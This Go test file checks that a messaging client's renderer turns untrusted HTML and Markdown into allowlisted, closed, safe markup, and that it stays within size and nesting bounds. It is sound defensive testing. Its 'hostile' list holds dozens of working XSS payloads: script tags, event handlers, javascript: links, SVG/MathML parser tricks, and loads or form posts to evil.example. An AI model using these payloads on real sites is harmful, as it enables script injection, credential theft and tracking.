package render_test

import (
	"strings"
	"testing"

	"golang.org/x/net/html"

	"parley/content/render"
)

// allowed are the tags and attributes that the package may write.
var allowed = map[string][]string{
	"p": {"class", "data-parley-part"}, "h1": nil, "h2": nil, "h3": nil, "h4": nil, "h5": nil, "h6": nil, "blockquote": nil, "ul": nil, "ol": {"start"},
	"li": nil, "pre": nil, "code": nil, "hr": nil, "table": nil, "tr": nil, "td": nil, "th": nil, "br": nil, "em": nil, "strong": nil, "del": nil,
	"a": {"href", "rel", "referrerpolicy", "data-parley-link", "data-parley-mention"}, "img": {"src", "alt"},
}

var void = map[string]bool{"br": true, "hr": true, "img": true}

// checkSafe reads HTML as a browser's tokenizer would and holds it to the list, closed tags and safe targets included.
func checkSafe(t *testing.T, source, out string) {
	t.Helper()
	if strings.ContainsAny(out, "\x00\x1b\u202e\u2066") {
		t.Errorf("%q: control characters in %q", source, out)
	}
	var open []string
	z := html.NewTokenizer(strings.NewReader(out))
	for {
		switch z.Next() {
		case html.ErrorToken:
			if len(open) > 0 {
				t.Errorf("%q: open %v in %q", source, open, out)
			}
			return
		case html.CommentToken, html.DoctypeToken, html.SelfClosingTagToken:
			t.Errorf("%q: %q", source, out)
		case html.StartTagToken:
			token := z.Token()
			checkTag(t, out, token)
			if !void[token.Data] {
				open = append(open, token.Data)
			}
		case html.EndTagToken:
			name, _ := z.TagName()
			if len(open) == 0 || open[len(open)-1] != string(name) {
				t.Errorf("%q: </%s> with %v open in %q", source, name, open, out)
				return
			}
			open = open[:len(open)-1]
		}
	}
}

func checkTag(t *testing.T, out string, token html.Token) {
	t.Helper()
	attributes, known := allowed[token.Data]
	if !known {
		t.Errorf("<%s> in %q", token.Data, out)
	}
	for _, a := range token.Attr {
		ok := false
		for _, name := range attributes {
			ok = ok || a.Key == name
		}
		if !ok {
			t.Errorf("%s of <%s> in %q", a.Key, token.Data, out)
		}
		if a.Key == "href" {
			scheme, _, _ := strings.Cut(a.Val, ":")
			if !strings.Contains(" http https mimi mailto tel sip sips xmpp im ", " "+scheme+" ") {
				t.Errorf("href %q", a.Val)
			}
		}
		if a.Key == "src" && a.Val != "blob:5" {
			t.Errorf("src %q", a.Val)
		}
	}
}

func pictures(index int) (string, bool) { return "blob:5", index == 5 }

// hostile are ways to get something run, loaded or framed.
var hostile = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=http://evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script/x>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`, `<img src="javascript:alert(1)">`, `<img src="https://evil.example/track.gif">`, `<img src="//evil.example/x">`,
	`<img src="data:image/svg+xml;base64,AAAA">`, `<img src="cid:9@local.invalid" onload=x>`, `<img src="cid:5@local.invalid" style="position:fixed">`,
	`<img src='cid:5@local.invalid' alt='"><script>alert(1)</script>'>`, `<img srcset="https://evil.example/x 1x" src="">`, `<img/src/onerror=alert(1)>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg/onload=alert(1)>`, `<svg><foreignObject><iframe src=x></foreignObject></svg>`,
	`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`, `<a href="java&#10;script:alert(1)">x</a>`,
	`<a href="&#106;avascript:alert(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:x">x</a>`, `<a href="file:///etc/passwd">x</a>`,
	`<a href="https://x.example" onclick="alert(1)">x</a>`, `<a href="https://x.example/&quot; onclick=&quot;alert(1)">x</a>`, `<a href='https://x.example/"><script>'>x</a>`,
	`<a href="//evil.example">x</a>`, `<a href="/path">x</a>`, `<a href="https://">x</a>`, `<a href="blob:https://x.example/1">x</a>`, `<a name="x" id="y" href="#z">x</a>`,
	`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data="https://evil.example/x.swf"></object>`, `<embed src="x">`,
	`<frameset><frame src="x"></frameset>`, `<applet code=x>`, `<form action="https://evil.example"><input name=p type=password><button>x</button></form>`,
	`<input autofocus onfocus=alert(1)>`, `<textarea><script>alert(1)</script></textarea>`, `<select><option onclick=x>a</option></select>`, `<keygen autofocus onfocus=x>`,
	`<isindex action="javascript:alert(1)">`, `<base href="https://evil.example/">`, `<meta http-equiv="refresh" content="0;url=https://evil.example">`, `<link rel=stylesheet href=x>`,
	`<style>@import "https://evil.example/x.css";</style>`, `<p style="background:url(https://evil.example)">x</p>`, `<div style="width:expression(alert(1))">x</div>`,
	`<body onload=alert(1)>x`, `<html onmouseover=x><head><title></title><script>x</script></head><body background="https://evil.example">y`, `<table background="x"><tr><td background="y">z`,
	`<video src=x onerror=alert(1)><source onerror=x></video>`, `<audio src=x autoplay>`, `<marquee onstart=alert(1)>x</marquee>`, `<details open ontoggle=alert(1)>x</details>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<template><script>alert(1)</script></template>`, `<xmp><img src=x onerror=alert(1)></xmp>`,
	`<plaintext><script>alert(1)`, `<title><img src=x onerror=alert(1)></title>`, `<noembed><img src=x onerror=alert(1)></noembed>`, `<!--><img src=x onerror=alert(1)>-->`,
	`<!-- --!><img src=x onerror=alert(1)> -->`, `<![CDATA[<img src=x onerror=alert(1)>]]>`, `<?xml version="1.0"?><x onclick=y>`, `<!DOCTYPE html [<!ENTITY x "y">]>&x;`,
	`</p></div></td></table></body></html><script>`, `</div></div></div>out of the box`, `<b><i></b></i>`, `<p><div><p></div>`, `<table><tr><td></table></td>x`, `<a href="https://a.example"><a href="https://b.example">x</a></a>`,
	`<ul><li><ol></ul></li>`, `<`, `<a`, `<a href="`, `<a href="https://x.example`, `<b`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;`, "<img src=\"x\x00y\">", "\x00<script>\x00",
	"<a href=\"https://x.example/\u202egnp.exe\">x</a>", "\u202eevil\u2066", "<scr\x00ipt>alert(1)</scr\x00ipt>", "\xff\xfe<b>", `<x-y z>`, `<a href="mimi://x.example/u/a"><img src=x></a>`,
	`[x](javascript:alert(1))`, `[x](JAVASCRIPT:alert(1))`, `[x](data:text/html,x)`, "[x](java\nscript:alert(1))", `[x](<javascript:alert(1)>)`, `<javascript:alert(1)>`, `[x](&#106;avascript:alert(1))`,
	`[x](j\avascript:alert(1))`, `[x](https://x.example/"onmouseover="alert(1))`, `[x](https://x.example 'a" onclick="x')`, `![x](https://evil.example/track.gif)`, `![x](cid:9@local.invalid)`,
	`![x](javascript:alert(1))`, `![x" onerror="alert(1)](cid:5@local.invalid)`, "[a]: javascript:alert(1)\n\n[a]", "```\"><script>alert(1)</script>\nx\n```", "`<script>`", `**<script>**alert(1)`, `[<script>](https://x.example)`,
	`<https://x.example/"><script>`, `<div>` + "\n\n" + `<script>alert(1)</script>`, `# <img src=x onerror=alert(1)>`, `| <b> |` + "\n|-|\n|<i>|", `- [ ] <script>`, `[x][<script>]`,
}

func TestHostile(t *testing.T) {
	options := render.Options{Image: pictures}
	t.Run("C-HTM-01 nothing of the sender's is run, loaded, framed or left open", func(t *testing.T) {
		for _, s := range hostile {
			for _, wrapped := range []string{s, s + s, "<p>a" + s + "<b>b", "<table><tr><td>" + s, "<ul><li>" + s + "</ul>", "<pre>" + s, "<a href=\"https://a.example\">" + s} {
				checkSafe(t, wrapped, render.HTML(wrapped, 5).HTML(options))
				checkSafe(t, wrapped, render.Markdown(wrapped, 5).HTML(options))
				checkSafe(t, wrapped, render.Plain(wrapped).HTML(options))
			}
		}
	})
	t.Run("C-HTM-01 only parts of the message are pictures", func(t *testing.T) {
		for source, want := range map[string]string{
			`<img src="cid:5@local.invalid" alt="a">`:  `<img src="blob:5" alt="a">`,
			`<img src="cid:6@local.invalid" alt="a">`:  `[image: a]`,
			`<img src="https://evil.example/t" alt=a>`: `<a href="https://evil.example/t" rel="noopener noreferrer nofollow" referrerpolicy="no-referrer" data-parley-link="differs">a</a>`,
			`<img src="x">`: `[image]`,
		} {
			if got := render.HTML(source, 5, 7).HTML(options); got != want {
				t.Errorf("%s: %s", source, got)
			}
		}
		if got := render.HTML(`<img src="cid:5@local.invalid" alt="a">`).HTML(options); got != "[image: a]" {
			t.Errorf("a part that is not shown in this text: %s", got)
		}
	})
}

func TestBounds(t *testing.T) {
	const size = 32 << 10
	for _, piece := range []string{"[", "![", "*a_", ">", "> ", "1. ", "- ", "[a](", "`", "<a ", "<!--", "<?", "a|", "|-", "# ", "\n", "x\n> ", "<b>", "<p>", "<table><tr><td>",
		"<ul><li>", "<pre>", "<svg>", "<script>", "</b>", "&#x202e;", "~~", "[a]: b\n", "<a href=\"https://x.example\">"} {
		source := strings.Repeat(piece, size/len(piece))
		checkSafe(t, piece, render.Markdown(source).HTML(render.Options{}))
		checkSafe(t, piece, render.HTML(source).HTML(render.Options{}))
	}
	wide := strings.Repeat("a|", 5000) + "\n" + strings.Repeat("-|", 5000) + "\n" + strings.Repeat("x\n", 20000)
	if n := len(render.Markdown(wide).HTML(render.Options{})); n > 1<<20 {
		t.Errorf("a table of %d octets", n)
	}
	long := strings.Repeat("word ", 200_000)
	for _, doc := range []*render.Node{render.Markdown(long), render.HTML(long)} {
		if got := len(doc.PlainText(render.Options{})); got != len(long)-1 {
			t.Errorf("%d octets left", got)
		}
	}
	many := strings.Repeat("<b>x</b> y ", 30000)
	if got := render.HTML(many[:250_000]).PlainText(render.Options{}); strings.Count(got, "x") < 22700 {
		t.Errorf("%d words left", strings.Count(got, "x"))
	}
	deep := strings.Repeat("<blockquote>", 500) + "bottom"
	if got := render.HTML(deep).PlainText(render.Options{}); !strings.HasSuffix(got, "bottom") {
		t.Errorf("%q", got)
	}
	deepMarkdown := strings.Repeat("> ", 60) + "*bottom* [x](https://x.example) `code` <b>"
	if got := render.Markdown(deepMarkdown).PlainText(render.Options{}); !strings.Contains(got, "bottom x") || !strings.Contains(got, "code <b>") {
		t.Errorf("%q", got)
	}
}
